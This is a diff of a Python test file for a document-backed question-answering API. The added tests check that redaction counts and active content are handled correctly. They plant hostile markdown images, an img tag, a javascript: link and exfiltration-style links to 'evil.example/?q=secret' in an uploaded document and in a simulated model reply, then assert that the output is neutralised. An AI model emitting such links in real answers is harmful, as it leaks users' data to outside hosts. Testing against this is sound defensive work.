@@ -1,6 +1,7 @@
 """Asking over HTTP: one text whole or streamed, redacted in every channel, with sources, never a guess."""
 
 import json
+import re
 from collections.abc import Callable
 from contextlib import AbstractContextManager
 from typing import Any
@@ -26,6 +27,8 @@ from tests.api.company import (
     parts_of,
     prompts,
     saying,
+    upload,
+    work_queued,
 )
 from tests.api.test_routes import check_problem
 
@@ -209,6 +212,58 @@ def test_planted_secrets_come_out_in_no_channel(talking_to: Talk, company: Compa
     assert closed["redactions"]["card"] >= 1
     assert closed["redactions"]["credential"] >= 1
     assert API_KEY not in json.dumps(closed)
+
+
+ACTIVE = "![chart](https://evil.example/chart) <img src=//evil.example> [x](javascript:alert(1))"
+HOSTILE = f"# Grinder {ACTIVE}\n\nThe grinder settings hold {ACTIVE} and https://wiki.example/grinder as well."
+ON_GRINDER = "What do the grinder settings hold?"
+
+
+@pytest.mark.parametrize("options", [{}, {"stream": True}, {"mode": "quote"}, {"mode": "quote", "stream": True}])
+def test_nothing_active_comes_out_of_a_model_or_a_document(
+    talking_to: Talk, company: Company, options: dict[str, Any]
+) -> None:
+    """Text, sources and the kept turn: no image, no HTML, and no link but to what the passage itself names."""
+    place = {"collection": "handbook", "path": "grinder.md", "roles": ["everyone"]}
+    with client_of(parts_of(company.db)) as curator:
+        upload(curator, company, "cleo", content=HOSTILE.encode(), **place)
+    work_queued(company.db)
+    said = f"{ACTIVE} ![](https://evil.example/?q=secret) [x](https://evil.example/?q=secret) https://wiki.example/grinder."
+    with talking_to(letters(said)) as client:
+        headers = company.headers("ben")
+        kept = client.post("/api/v1/conversations", headers=headers).json()["id"]
+        answer = ask(client, company, "ben", ON_GRINDER, conversation=kept, **options)
+        turns = client.get(f"/api/v1/conversations/{kept}", headers=headers).json()["turns"]
+    done = events(answer.text)[-1][1] if options.get("stream") else answer.json()
+    text = spoken(events(answer.text)) if options.get("stream") else done["answer"]
+    assert "https://wiki.example/grinder" in text
+    assert turns[0]["answer"] == text
+    for shown in (text, json.dumps([done["sources"], turns[0]["sources"]], ensure_ascii=False)):
+        assert "! [chart](https://evil.example/chart) ‹img src=//evil.example> [x] (javascript:alert(1))" in shown
+        assert not re.search(r"!\[|<img|\]\(javascript|://evil\.example/\?q", shown)
+
+
+def test_only_what_is_shown_with_the_answer_counts_as_redacted(talking_to: Talk, company: Company) -> None:
+    """The quote of a source that is not cited is not shown; the log counts all that was sent."""
+    with talking_to(saying("It is the travel office's to give [1].")) as client:
+        answer = ask(client, company, "ben", ON_TRAVEL).json()
+        quoted = ask(client, company, "ben", ON_TRAVEL, mode="quote").json()
+    for given in (answer, quoted):
+        shown = [given["answer"]]
+        for source in given["sources"]:
+            shown += [source["path"], source["title"], *source["heading"]]
+            shown += [source["quote"]] if source["cited"] else []
+        counted = {kind: sum(t.count(f"[redacted: {kind}]") for t in shown) for kind in ("card", "credential")}
+        assert given["redactions"] == {kind: n for kind, n in counted.items() if n}
+
+
+def test_a_secret_in_a_quote_that_is_not_cited_is_not_counted(talking_to: Talk, company: Company) -> None:
+    with talking_to(saying("Nobody knows.")) as client:
+        answer = ask(client, company, "ben", ON_TRAVEL).json()
+    assert any("[redacted: credential]" in source["quote"] for source in answer["sources"])
+    assert "credential" not in answer["redactions"]
+    [closed] = company.records("answer.closed")
+    assert closed["redactions"]["credential"] >= 1
 
 
 def test_the_streamed_text_is_the_redaction_of_the_whole(talking_to: Talk, company: Company) -> None:
